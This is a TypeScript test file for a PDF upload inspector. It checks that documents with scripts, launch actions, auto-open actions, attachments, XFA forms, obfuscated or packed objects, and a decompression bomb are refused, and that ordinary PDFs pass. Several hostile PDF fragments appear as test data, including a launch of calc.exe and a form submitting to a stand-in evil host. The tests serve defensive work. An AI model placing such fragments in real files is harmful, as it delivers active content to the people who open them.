import { randomBytes } from 'node:crypto';
import { Readable } from 'node:stream';
import { deflateSync } from 'node:zlib';
import PDFKit from 'pdfkit';
import { describe, expect, test } from 'vitest';
import { inspectUpload, UploadRefused } from './index.ts';

const pdf = (...parts: (string | Buffer)[]) =>
  Buffer.concat(
    ['%PDF-1.7\n', ...parts, '\ntrailer <<>>\n%%EOF\n'].map((part) => Buffer.from(part)),
  );
const outcome = (body: Buffer) =>
  inspectUpload(Readable.from([body]), 'paymentProof').then(
    () => 'accepted',
    (error) => (error instanceof UploadRefused ? error.key : error),
  );

const packed = (content: string, more = '/Filter /FlateDecode') => {
  const body = deflateSync(Buffer.from(content));
  const head = `5 0 obj << /Type /ObjStm /N 1 /First 4 ${more} /Length ${body.length} >>\nstream\n`;
  return [head, body, '\nendstream endobj'];
};

describe('a PDF that does something by itself is refused', () => {
  test.each([
    ['a script', '1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'],
    ['a script with its name written otherwise', '1 0 obj << /S /J#61vaScript /J#53 (x) >> endobj'],
    ['a program', '1 0 obj << /S /Launch /F (calc.exe) >> endobj'],
    ['something that opens with it', '1 0 obj << /OpenAction 2 0 R >> endobj'],
    ['something that opens with it, in place', '1 0 obj << /OpenAction<</S/URI>> >> endobj'],
    ['an attachment', '1 0 obj << /Type /EmbeddedFile >> endobj'],
    ['attachments', '1 0 obj << /Names << /EmbeddedFiles 3 0 R >> >> endobj'],
    ['a form of another kind', '1 0 obj << /AcroForm << /XFA 3 0 R >> >> endobj'],
    ['a rendition', '1 0 obj << /S /Rendition /JS (x) >> endobj'],
    ['a form that sends itself', '1 0 obj << /S /SubmitForm /F (http://evil.example) >> endobj'],
  ])('%s', async (_, object) => {
    expect(await outcome(pdf(object))).toBe('upload.active');
  });

  test('however it is packed', async () => {
    const object = '1 0 << /S /JavaScript /JS (app.alert(1)) >>';
    expect(await outcome(pdf(...packed(object)))).toBe('upload.active');
    const escaped = packed(object).map((part) =>
      typeof part === 'string' ? part.replace('/ObjStm', '/Obj#53tm') : part,
    );
    expect(await outcome(pdf(...escaped))).toBe('upload.active');
  });

  test.each([
    ['packed as we cannot read', packed('1 0 <<>>', '/Filter [/ASCII85Decode /FlateDecode]')],
    ['packed as stands elsewhere', packed('1 0 <<>>', '/Filter 7 0 R')],
    ['packed with a predictor', packed('1 0 <<>>', '/Filter /FlateDecode /DecodeParms << >>')],
    [
      'locked',
      ['5 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nxxxx\nendstream endobj'],
    ],
    ['a bomb', packed(' '.repeat(80 * 1024 * 1024))],
  ])('and one whose objects are %s is refused too', async (_, parts) => {
    expect(await outcome(pdf(...parts))).toBe('upload.active');
  });
});

describe('an ordinary PDF passes', () => {
  test('as a library writes it', async () => {
    const document = new PDFKit({ info: { Title: 'JavaScript Ltd.' } });
    document.text('Bank transfer 5,000.00 CNY').end();
    const chunks: Buffer[] = [];
    for await (const chunk of document) chunks.push(chunk as Buffer);
    expect(await outcome(Buffer.concat(chunks))).toBe('accepted');
  });

  test('with its objects packed', async () => {
    expect(await outcome(pdf(...packed('1 0 << /Type /Catalog /Pages 2 0 R >>')))).toBe('accepted');
  });

  test('that opens at a page', async () => {
    expect(await outcome(pdf('1 0 obj << /OpenAction [3 0 R /Fit] >> endobj'))).toBe('accepted');
  });

  test('whose picture happens to hold the letters of a short name', async () => {
    const picture = Buffer.concat([
      randomBytes(400),
      Buffer.from('/JS /AA /XFA '),
      randomBytes(400),
    ]);
    const parts = ['4 0 obj << /Subtype /Image /Length 813 >>\nstream\n', picture];
    expect(await outcome(pdf(...parts, '\nendstream endobj'))).toBe('accepted');
  });
});
